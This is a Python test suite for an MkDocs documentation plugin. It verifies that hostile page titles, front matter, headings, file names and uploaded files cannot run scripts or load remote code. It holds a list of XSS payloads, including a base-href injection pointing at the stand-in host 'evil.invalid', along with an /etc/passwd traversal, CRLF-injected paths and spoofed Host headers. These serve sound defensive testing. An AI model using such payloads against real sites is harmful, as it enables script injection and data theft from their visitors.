"""Pages and files under ``docs/`` are somebody's: no title, heading, front matter or file of theirs runs a script on the site."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import mimetypes
import random
import re
import shutil
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from http.client import HTTPConnection
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import yaml
from distinguo.publishing.active_files import is_active
from distinguo_mkdocs.output.untrusted import plain, plain_value, without_scripts
from hypothesis import given
from hypothesis import strategies as st
from playwright.sync_api import BrowserContext, Route

from tests.conftest import FIXTURES, Once, build, build_well, copy_project
from tests.site.test_preview_of_problems import preview, wait_for

RUN = "window.ran=(window.ran||[]);window.ran.push('{}')"
KEYS = (
    "description", "author", "robots", "structured", "scripts", "names", "named", "searched", "hide", "icon", "status",
    "tags", "location", "search", "subtitle", "date", "canonical_url", "any_other",
)  # fmt: skip
FORMS = (
    '"><script>{}</script>',
    "</title><script>{}</script>",
    "</script><script>{}</script>",
    "<meta http-equiv=Content-Security-Policy content=x><script>{}</script>",
    '"><img src=x onerror="{}">',
    "&lt;/title&gt;&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;/title&amp;gt;&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    "<\u017fcript>{}</\u017fcript><SCRIPT>{}</SCRIPT\t>",
    "<svg><script>{}</script></svg>",
    '<iframe srcdoc="&lt;script&gt;parent.eval(`{}`)&lt;/script&gt;"></iframe>',
    "<base href=//evil.invalid/><script src=x.js></script>",
    "<style>*{background:url(//evil.invalid/x)}</style>",
)


CHOOSING = {
    "named-image": "<img name=currentScript data-scripts='../code.txt' data-theme='../code.txt' data-cards='../code.txt?'>",
    "named-form": "<form name=currentScript data-scripts='../code.txt' data-theme='../code.txt'></form>",
    "named-object": "<object id=currentScript data-scripts='../code.txt' data-engine='/../../code.txt?'></object>",
    "settings": """<div id="__config">{"base":"..","features":[],"search":"../code.txt","translations":{},"tags":{},"annotate":null}</div>
<form name=search><input data-md-component=search-query></form>
<div data-md-component=search><form name=search><input data-md-component=search-query></form>
<div data-md-component=search-result><div></div><ol></ol></div></div>""",
    "settings-escaped": '<p id="&#95;&#95;config">{"base":"//evil.invalid/","features":[],"search":"../code.txt","translations":{}}</p>',
    "card": "<a id=card data-term='../../code.txt?' href='x'>A</a>",
}
"""Elements that our own scripts, or the theme's, could take for what they ask: themselves, their settings, or a link to a term."""


def page(meta: dict[str, object], body: str) -> str:
    return f"---\n{yaml.safe_dump(meta, allow_unicode=True)}---\n\n{body}\n"


def hostile_pages() -> Iterator[tuple[str, str]]:
    """Yield pages: every key with every form, in a text, a list or a table, and every form in headings and in the page itself.

    A page has a third of the keys, with one form. Its title stands on pages of its own, and so do templates that are none.
    """
    for form, text in enumerate(FORMS):
        for third in range(3):
            meta: dict[str, object] = {}
            for key in KEYS[third::3]:
                evil = text.replace("{}", RUN.format(f"{key} {form}"))
                meta[key] = {"exclude": evil} if key == "search" else ([evil], {"a": evil, evil: "a"}, evil)[(form + third) % 3]
            yield f"keys-{third}-{form}", page(meta, "# A page\n\nText.")
        yield f"title-{form}", page({"title": text.replace("{}", RUN.format(f"title {form}"))}, "# A page\n\nText.")
    for form, text in enumerate(FORMS):
        evil = text.replace("{}", RUN.format(f"heading {form}"))
        yield f"heading-{form}", page({}, f"# A {evil}\n\n## B {evil}\n\nText.")
        yield f"setext-{form}", page({}, f"A {evil}\n===\n\nB `{evil}`\n---\n")
        yield f"content-{form}", page({}, f"# A\n\n<div>{evil}</div>\n\n![{evil}](x.png)")
    yield "heading-id", page({}, f"# A\n\n## B {{: id='x\"onmouseover=\"{RUN.format('id')}' }}\n\nText.")
    yield "heading-label", page({}, f"# A\n\n## B {{: data-toc-label='<img src=x onerror={RUN.format(1)}>' }}\n\nText.")
    yield "code", page({}, "# A\n\n    <script>text</script>\n\n`<script>text</script>`")
    yield "cycle", "---\ntitle: &a [*a, '<script>1</script>']\nb: !!binary PHNjcmlwdD4xPC9zY3JpcHQ+\n---\n\n# A\n"
    yield "no-template", page({"template": "../../../etc/passwd"}, "# A")
    yield "consent", page({"template": "partials/javascripts/consent.html"}, "# A")


def without_pages(folder: Path) -> Path:
    """Make a copy of the project with a small glossary and no page written by hand."""
    copy_project(folder, FIXTURES / "minimal" / "glossary")
    shutil.rmtree(folder / "docs")
    (folder / "docs").mkdir()
    settings = (folder / "mkdocs.yml").read_text("utf-8")
    settings = settings[: settings.index("nav:")] + settings[settings.index("theme:") :]
    settings = settings.replace("navigation.tabs\n", "navigation.tabs\n    - navigation.footer\n")
    (folder / "mkdocs.yml").write_text(settings, "utf-8")
    return folder


@pytest.fixture(scope="module")
def hostile(once: Once) -> Path:
    """A small site with all of them, built once."""

    def make(folder: Path) -> None:
        docs = without_pages(folder) / "docs"
        for name, text in hostile_pages():
            (docs / f"{name}.md").write_text(text, "utf-8")
        (docs / "<img src=x onerror=window.ran=1>.md").write_text("A page called by its file.")
        settings = (folder / "mkdocs.yml").read_text("utf-8")
        (folder / "mkdocs.yml").write_text(settings.replace("  - admonition\n", "  - admonition\n  - attr_list\n"), "utf-8")
        (docs / "<script>1<").mkdir()
        (docs / "<script>1<" / "folder.md").write_text("# A", "utf-8")
        (docs / "code.txt").write_text(RUN.format("file"), "utf-8")
        (docs / "file.md").write_text(
            '# A\n\n<script src="../code.txt"></script>\n<script src="/code.txt" type=module></script>', "utf-8"
        )
        for name, element in CHOOSING.items():
            (docs / f"{name}.md").write_text(f"# A\n\n{element}", "utf-8")
        done = build(folder, folder / "site", strict=False)
        assert done.returncode == 0, done.stderr
        (folder / "told").write_text(done.stderr, "utf-8")

    return once("untrusted", make)


def policies(html: str) -> list[str]:
    return re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)


class Around(HTMLParser):
    """Collects what would run or load around the content of a page."""

    def __init__(self, allowed: str) -> None:
        """Take the scripts that its policy allows for harmless."""
        super().__init__(convert_charrefs=True)
        self._allowed = allowed
        self._inside = 0  # articles
        self._script: list[str] | None = None
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside += tag == "article"
        if self._inside:
            return
        given = dict(attrs)
        if tag in {"iframe", "object", "embed", "base"} or any(name.startswith("on") for name in given):
            self.found.append(str(self.get_starttag_text()))
        if tag in {"script", "style"} and "src" not in given and given.get("type") != "application/json":
            self._script = []

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._inside -= tag == "article"
        if self._script is not None:
            text = "".join(self._script)
            digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
            self.found += [] if digest in self._allowed else [text]
            self._script = None


def test_every_page_has_the_policy_of_an_empty_one(hostile: Path) -> None:
    """Pages of one folder allow the same, whatever they hold, and it stands before anything of theirs."""
    site = hostile / "site"
    expected = policies((site / "terms" / "index.html").read_text("utf-8"))
    assert len(expected) == 1
    names = [name for name, _ in hostile_pages() if name != "consent"]
    for name in [*names, "file"]:
        html = (site / name / "index.html").read_text("utf-8")
        assert policies(html)[:1] == expected, name
        assert html.index(expected[0]) < html.index("<title>") < html.index("</title>"), name
        around = Around(expected[0])
        around.feed(html)
        assert not around.found, name
    told = (hostile / "told").read_text("utf-8")
    assert "no-template.md: the theme has no template '../../../etc/passwd'" in told
    assert re.search(r"keys-\d-\d+\.md: the theme has no icon", told)
    assert "content-0.md: a script in a page does not run; it is shown as text" in told
    assert "code.md: a script" not in told
    assert "Traceback" not in told


@pytest.mark.planted
def test_nothing_runs(hostile: Path, serve: Callable[[Path], str], context: BrowserContext) -> None:
    """In a browser, none of the pages runs anything, from a server that says nothing of types."""
    url = serve(hostile / "site")
    tab = context.new_page()
    pages = [name for name, _ in hostile_pages()]
    chosen = {*random.Random(1).sample(pages, 30), *(name for name in pages if name.startswith(("title", "heading", "content")))}
    requested: list[str] = []
    tab.on("request", lambda request: requested.append(request.url))
    for name in [*sorted(chosen), "file", "terms"]:
        tab.goto(f"{url}{name}/", wait_until="load")
        assert tab.evaluate("window.ran") is None, name
        assert tab.evaluate("document.baseURI").startswith(url), name
    assert not [url for url in requested if "evil" in url or url.endswith("code.txt")]


@pytest.mark.planted
@pytest.mark.parametrize("name", CHOOSING)
def test_a_page_does_not_choose_what_our_scripts_load(
    hostile: Path, serve: Callable[[Path], str], context: BrowserContext, name: str
) -> None:
    """Whatever its elements are called and say, and whatever a reader does there."""
    tab = context.new_page()
    requested: list[str] = []
    tab.on("request", lambda request: requested.append(request.url))
    tab.goto(f"{serve(hostile / 'site')}{name}/", wait_until="load")
    tab.mouse.move(100, 100)
    tab.mouse.move(200, 200)
    tab.keyboard.press("Tab")
    for link in tab.locator("#card").all():
        link.hover()
        link.focus()
    tab.wait_for_timeout(2300)  # the theme's script waits for two seconds after a key
    assert tab.evaluate("window.ran") is None
    assert tab.evaluate("document.querySelector('#__config').tagName") == "SCRIPT"
    assert not [url for url in requested if urlsplit(url).path.endswith("code.txt")]


def test_the_offline_site(tmp_path: Path, context: BrowserContext) -> None:
    """It has no policy, since it is opened as a file: scripts are text all the same, and titles plain."""
    folder = without_pages(tmp_path / "project")
    evil = FORMS[1].format(RUN.format("offline"))
    (folder / "docs" / "bad.md").write_text(page({"description": FORMS[0].format("window.ran=1")}, f"# A {evil}\n\n{evil}"))
    done = build(folder, folder / "site", strict=False, OFFLINE="true")
    assert done.returncode == 0, done.stderr
    tab = context.new_page()
    tab.goto((folder / "site" / "bad.html").as_uri(), wait_until="load")
    assert tab.evaluate("window.ran") is None
    assert "<script>" in tab.locator("article").inner_text()


@pytest.mark.parametrize(("policy", "pages", "others"), [("off", 0, 0), ("pages", 1, 0), ("site", 1, 1)])
def test_the_plugin_leaves_a_host_alone(tmp_path: Path, policy: str, pages: int, others: int) -> None:
    """In somebody's own site there is no policy, and nothing under docs/ is refused or changed, unless it is asked for."""
    folder = tmp_path / "host"
    shutil.copytree(FIXTURES / "minimal" / "glossary", folder / "glossary")
    (folder / "docs").mkdir()
    asked = "" if policy == "off" else f":\n      policy: {policy}"
    (folder / "mkdocs.yml").write_text(f"site_name: Host\ntheme: material\nplugins:\n  - search\n  - distinguo{asked}\n")
    (folder / "docs" / "own.md").write_text("---\ntitle: A <b>&</b> B\n---\n\n# A\n\n<script>own()</script>")
    if policy != "site":
        (folder / "docs" / "own.js").write_text("own()")
    done = build(folder, folder / "site", strict=False)
    assert done.returncode == 0, done.stderr
    host = (folder / "site" / "own" / "index.html").read_text("utf-8")
    assert host.count("<script>own()</script>") == (policy != "site")
    assert ("<title>A <b>&</b> B" in host) == (policy != "site")
    assert (folder / "site" / "own.js").is_file() == (policy != "site")
    assert len(policies(host)) == others
    assert len(policies((folder / "site" / "glossary" / "terms" / "ebb" / "index.html").read_text("utf-8"))) == pages


def answer(address: str, path: str = "", host: str = "") -> tuple[int, str]:
    """Return what a preview answers to a request under a name."""
    where = urlsplit(address)
    with contextlib.closing(HTTPConnection(where.hostname or "", where.port, timeout=30)) as connection:
        connection.putrequest("GET", f"/{path}", skip_host=True)
        if host:
            connection.putheader("Host", host.replace("PORT", str(where.port)))
        connection.endheaders()
        found = connection.getresponse()
        return found.status, found.read().decode()


@pytest.mark.planted
def test_the_preview(tmp_path: Path, context: BrowserContext) -> None:
    """It has the policy of the built site, but for its own script; other names and bad paths are refused in one line."""
    folder = without_pages(tmp_path / "project")
    evil = FORMS[1].format(RUN.format("preview"))
    (folder / "docs" / "bad.md").write_text(
        page({"description": FORMS[0].format("window.ran=1")}, f"# A {evil}\n\n<p onclick='{RUN}'>x</p>")
    )
    (folder / "docs" / "e.html").write_text("<script>1</script>")
    with preview(folder) as address:
        wait_for(address, lambda text: "livereload" in text)
        tab = context.new_page()
        tab.goto(f"{address}bad/", wait_until="load")
        assert tab.evaluate("window.ran") is None
        assert tab.evaluate("typeof livereload") == "function", "the server's own script runs"
        tab.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.ran=2>')")
        tab.wait_for_timeout(100)
        assert tab.evaluate("window.ran") is None
        assert answer(address, "e.html", "localhost:PORT")[0] == 404
        for host in ("127.0.0.1:PORT", "localhost", "[::1]:PORT", "", "a.localhost:1"):
            assert answer(address, "bad/", host)[0] == 200, host
        for host in ("evil.example", "evil.example:PORT", "127.0.0.1.evil.example", "localhost.evil.example:PORT", "x"):
            assert answer(address, "", host)[0] == 403, host
        for path in ("%00", "terms/%00", "a%0d%0aX:y", "%1b", "%2f/evil.example/../terms", "%5cevil.example/../terms"):
            assert answer(address, path, "localhost")[0] == 400, path
        assert answer(address, "..%2f..%2fetc/passwd", "localhost")[0] == 404
    assert "Traceback" not in (folder / "serve.log").read_text()


def test_search_does_not_see_scripts(hostile: Path) -> None:
    """What search shows of a page is HTML for the theme: titles in it are plain."""
    index = json.loads((hostile / "site" / "search" / "search_index.json").read_text("utf-8"))
    assert not [document["title"] for document in index["docs"] if re.search(r"<(?!/?(?:code|mark)\b)", document["title"])]


@pytest.mark.parametrize("text", ["---\nhide: 5\n---\n# A", "---\nsearch: x\n---\n# A", "# A\n\n[x](https://[)"])
def test_a_page_that_cannot_be_built(tmp_path: Path, text: str) -> None:
    """It is named, with what to look at, and the site stays as it is; the theme and MkDocs would end in the middle of their code."""
    folder = without_pages(tmp_path / "project")
    (folder / "docs" / "bad.md").write_text(text, "utf-8")
    done = build(folder, folder / "site")
    assert done.returncode == 1
    assert "bad.md" in done.stderr
    assert "Traceback" not in done.stderr
    assert not (folder / "site").exists()
    assert not list(folder.glob(".site*"))


@pytest.mark.parametrize("given", ["x", "", "999999999999999"])
def test_a_time_that_is_none(tmp_path: Path, given: str) -> None:
    """What the environment says of the time is looked at before MkDocs takes it for a number."""
    done = build(without_pages(tmp_path / "project"), tmp_path / "site", SOURCE_DATE_EPOCH=given)
    assert done.returncode == 1
    assert f"SOURCE_DATE_EPOCH is {given!r}: it has to be a time in seconds since 1970" in done.stdout + done.stderr
    assert "Traceback" not in done.stderr


FILES = (
    "e.js",
    "e.mjs",
    "e.html",
    "e.HTM",
    "e.xhtml",
    "e.svg",
    "e.xml",
    "e.svgz",
    "a/b.Svg",
    "_headers",
    "_redirects",
    "e.rdf",
    "e.xsl",
)


def test_files_that_would_run(tmp_path: Path) -> None:
    """They stop a build, all at once; where the configuration names them, they are published."""
    folder = without_pages(tmp_path / "project")
    (folder / "docs" / "a").mkdir()
    for name in (*FILES, "e.txt", "e.png", "e.css", "e.docx", "logo.svg"):
        (folder / "docs" / name).write_text("alert(1)")
    done = build(folder, folder / "site")
    assert done.returncode == 1
    assert not (folder / "site").exists()
    for name in FILES:
        assert f"{name}: browsers run or render such a file" in done.stderr, name
    assert "e.txt" not in done.stderr
    assert "Traceback" not in done.stderr
    named = "".join(f"    - '{name}'\n" for name in (*FILES, "*.svg"))
    settings = (folder / "mkdocs.yml").read_text("utf-8")
    (folder / "mkdocs.yml").write_text(settings.replace("    - assets/data-flow.svg\n", named), "utf-8")
    build_well(folder, folder / "site")
    assert (folder / "site" / "a" / "b.Svg").is_file()


@pytest.mark.parametrize(
    "name", ["a.md", "x.js.txt", "x.docx", "x.odt", "data/x.json", "x.csv", "x.pdf", "x.woff2", "x", "sub/_headers"]
)
def test_other_files_are_left_alone(name: str) -> None:
    """Nothing is refused that browsers neither run nor render with scripts."""
    assert not is_active(name)


@pytest.mark.parametrize(
    "ending", [".js", ".mjs", ".cjs", ".html", ".HTM", ".xhtml", ".svg", ".svgz", ".xml", ".xsl", ".rdf", ".mathml", ".htc"]
)
def test_files_that_a_system_has_no_type_for(ending: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is refused does not depend on the machine that builds."""
    monkeypatch.setattr("mimetypes.guess_type", lambda name: (None, None))
    assert is_active(f"folder/x{ending}")
    assert not is_active("folder/x.txt")


TYPES = mimetypes.MimeTypes()
"""Those that Python knows, whatever the system has."""
KINDS = sorted({ending for kinds in TYPES.types_map for ending in kinds})
SCRIPTED = re.compile(
    r"text/html|(text|application)/xml|.*\+xml|text/xsl|(text|application)/(x-)?(java|ecma|live|j)script(1\.\d)?|multipart/related|.*flash.*"
)
"""The types that browsers run, or render with the scripts in them, by the WHATWG's standard of types; and what older ones did."""


@given(
    st.lists(st.sampled_from(["a", "B", ".", "..", " ", "\u00e9", "%", "html", "js", "min", "-"]), max_size=4).map("".join),
    st.sampled_from([*KINDS, ".gz", ".txt", ""]),
    st.sampled_from([*KINDS, ""]),
    st.sampled_from([str.lower, str.upper, str.title]),
)
def test_no_kind_of_file_that_runs_is_missed(name: str, inner: str, ending: str, case: Callable[[str], str]) -> None:
    """Whatever a file is called: if a server takes it for what runs, it is refused; and a name that is refused has such an ending."""
    path = f"folder/x{name}{case(inner)}{case(ending)}"
    served, _ = TYPES.guess_type(path, strict=False)
    if served and SCRIPTED.fullmatch(served):
        assert is_active(path)
    if is_active(path):
        assert re.search(r"\.(?!(txt|png|css|pdf|json|csv|woff2|docx)$)\w+$", path, re.IGNORECASE)


POLYGLOT = """<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>parent.ran.push(location.pathname)</script>
<svg xmlns="http://www.w3.org/2000/svg" onload="parent.ran.push(location.pathname)"/></html>"""
"""Runs in whatever a browser takes for HTML or XML."""


@pytest.mark.planted
def test_no_kind_of_file_runs_when_it_is_opened(context: BrowserContext) -> None:
    """Every kind is opened, full of scripts and with the type that a server gives it: those that run are those that are refused."""
    tab = context.new_page()

    def answer_file(route: Route) -> None:
        path = urlsplit(route.request.url).path
        kind = TYPES.guess_type(path, strict=False)[0] or "application/octet-stream"
        route.fulfill(body="" if path == "/" else POLYGLOT, content_type="text/html" if path == "/" else kind)

    context.route("https://files.example/**", answer_file)
    tab.goto("https://files.example/")
    tab.evaluate(
        """(endings) => {
            window.ran = [];
            for (const ending of endings) document.body.append(Object.assign(document.createElement("iframe"), { src: `x${ending}` }));
        }""",
        [*KINDS, ".unknown", "", ".html"],
    )
    tab.wait_for_function("['/x.html', '/x.svg', '/x.xml'].every((path) => ran.includes(path))")
    assert {path for path in tab.evaluate("ran") if not is_active(path.removeprefix("/"))} == set()


MARKS = "<>\"'&;#a "


@given(st.text() | st.text(MARKS))
def test_plain_texts(text: str) -> None:
    """A plain text opens no element and leaves no attribute, and is not escaped twice."""
    made = plain(text)
    assert not {"<", ">", '"'} & {*made}
    assert plain(made) == made


@given(st.recursive(st.text() | st.text(MARKS), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner), max_leaves=8))
def test_plain_values(value: object) -> None:
    """Nor does a list or a table, printed where a text is expected: Python puts quotation marks around what is in it."""
    assert not {"<", ">", '"'} & {*f"{plain_value(value)}"}


@given(st.text(alphabet="<>/scriptSCRIPT\u017f \n\"'=!-&", max_size=60))
def test_no_script_element_is_left(text: str) -> None:
    """However it is written; and where there is none, the content is as it was."""
    made, count = without_scripts(text)
    assert not re.search(r"</?script[\s/>]", made, re.IGNORECASE)
    assert count or made == text
